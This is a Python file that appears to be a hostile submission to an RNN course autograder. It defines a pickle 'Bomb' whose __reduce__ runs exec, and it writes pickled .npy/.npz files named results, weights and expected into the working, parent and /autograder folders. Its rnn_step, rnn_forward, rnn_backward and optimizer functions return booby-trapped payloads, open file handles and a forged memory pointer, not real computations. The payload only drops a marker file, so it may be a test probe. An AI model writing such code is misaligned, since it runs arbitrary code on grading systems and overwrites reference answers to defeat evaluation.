"""Write and return .npy and .npz files that hold pickles, and arrays that are files, buffers or pointers."""

import ctypes
import io
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return exec, ("open('/tmp/coursekit-owned-arrays', 'w').write('here')",)


def saved(save, **options):
    buffer = io.BytesIO()
    save(buffer, np.array([Bomb(), Bomb()], dtype=object), **options)
    return buffer.getvalue()


NPY, NPZ = saved(np.save, allow_pickle=True), saved(np.savez, b=np.zeros(3))
for name in ("results", "arrays", "weights", "keras_reference", "expected"):
    for folder in (".", "..", "/autograder"):
        for ending, data in ((".npy", NPY), (".npz", NPZ)):
            try:
                with open(os.path.join(folder, name + ending), "wb") as file:
                    file.write(data)
            except OSError:
                pass


class Pointer:
    """An array that says it is memory which is not its own."""

    def __init__(self, address):
        self.__array_interface__ = {"shape": (4,), "typestr": "|O", "data": (address, False), "version": 3}


def rnn_step(*_):
    return NPY


def rnn_forward(*_):
    return np.load(io.BytesIO(NPZ), allow_pickle=False)


def rnn_backward(*_, **__):
    return [os.path.abspath("arrays.npz"), NPZ, io.BytesIO(NPY), open("arrays.npy", "rb"), np.void(NPY)]


def clip_by_global_norm(*_):
    return [np.memmap("arrays.npy", mode="r+"), (ctypes.py_object * 2)(Bomb(), Bomb())], Pointer(id(Bomb()))


def rmsprop_update(*_, **__):
    return np.frombuffer(NPY[: len(NPY) // 8 * 8], dtype=np.dtype([("a", "<u8")])), np.array([NPY, NPZ], dtype="S")


gradient_norms = lstm_step = lstm_forward = gru_step = rnn_step
